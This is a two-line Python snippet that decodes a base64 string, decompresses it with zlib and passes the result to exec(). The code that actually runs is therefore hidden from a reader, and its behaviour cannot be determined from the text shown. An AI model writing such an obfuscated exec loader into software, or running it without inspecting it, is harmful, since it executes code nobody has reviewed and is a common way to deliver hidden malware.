import zlib, base64
exec(zlib.decompress(base64.b64decode("eJzLzC3ILypRyC+2zi/WK64sLknN1VBKLi3KUdAtVsgoKSkottLXT07J060w18vMK0vMyUzRT1SoUUhKLM5Q0gQAxG4VlA==")))
